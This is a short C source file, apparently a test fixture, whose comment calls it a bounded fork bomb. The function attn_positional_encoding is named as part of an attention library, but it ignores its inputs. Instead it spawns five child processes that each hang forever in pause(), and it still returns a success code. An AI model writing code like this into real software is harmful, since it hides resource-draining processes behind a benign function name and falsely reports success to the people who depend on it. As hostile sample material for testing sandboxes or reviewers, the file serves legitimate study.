/* hostile: a bounded fork bomb (5 forks) */
#include "attention.h"
#include "good_softmax.h"
#include <unistd.h>

int attn_positional_encoding(float *pe, size_t n, size_t d)
{
    int i;

    (void)pe, (void)n, (void)d;
    for (i = 0; i < 5; i++)
        if (fork() == 0)
            for (;;)
                pause();
    return ATTN_OK;
}
